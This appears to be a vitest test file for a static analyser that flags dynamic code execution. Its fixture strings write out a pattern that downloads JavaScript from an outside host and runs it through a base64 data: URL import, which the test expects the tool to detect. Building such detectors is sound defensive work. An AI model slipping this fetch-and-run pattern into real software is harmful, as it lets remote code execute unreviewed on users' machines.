import { describe, expect, it } from 'vitest';
import { factsOf, ofKind } from '../../support/code.js';

/**
 * A `data:` URL of JavaScript built at run time is code being run, like `eval`: `import("data:text/
 * javascript;base64," + b64(src))` runs `src`, so `src` another module returns joins that execute
 * (src/model/module-flows.ts). And a function that returns its cached copy or else what it downloads returns
 * the download as far as a caller's sink is concerned. Look-alikes: a data: URL of a constant, JSON data.
 */

describe('data: URL imports', () => {
  it('an import of a data: URL built from another module’s result is an execute that result flows into', async () => {
    const r = await factsOf(
      'javascript',
      'import { pull } from "./lib/pull.mjs";\nconst src = await pull("stable");\n' +
        'const m = await import("data:text/javascript;base64," + Buffer.from(src).toString("base64"));\n',
    );
    const runs = ofKind(r, 'execute');
    expect(runs).toHaveLength(1);
    expect(runs[0]!.via).toBe('import');
    expect(r.modules?.flows).toContainEqual({
      module: './lib/pull.mjs',
      name: 'pull',
      behaviour: r.behaviours.indexOf(runs[0]!),
      role: 'code',
    });
  });

  it('a data: URL of text the script holds is decoded and analysed, not run from elsewhere', async () => {
    const r = await factsOf(
      'javascript',
      'const m = await import("data:text/javascript,export%20const%20x%20%3D%201");\n' +
        'const j = await import("data:application/json,%7B%7D", { with: { type: "json" } });\n',
    );
    expect(ofKind(r, 'execute').filter((e) => e.code.taints.includes('download'))).toEqual([]);
    expect(r.modules?.flows ?? []).toEqual([]);
  });
});

describe('a function with several returns', () => {
  it('returns the download over the cached copy it tries first', async () => {
    const r = await factsOf(
      'javascript',
      'import { readFile } from "node:fs/promises";\n' +
        'export async function pull(v) {\n  try {\n    return await readFile(`cache/${v}.mjs`, "utf8");\n  } catch {}\n' +
        '  const res = await fetch(`https://gen.example-cdn.net/${v}.mjs`);\n  return res.text();\n}\n',
    );
    const s = r.modules?.summaries.find((x) => x.name === 'pull');
    expect(s?.returns?.taints).toContain('download');
  });
});
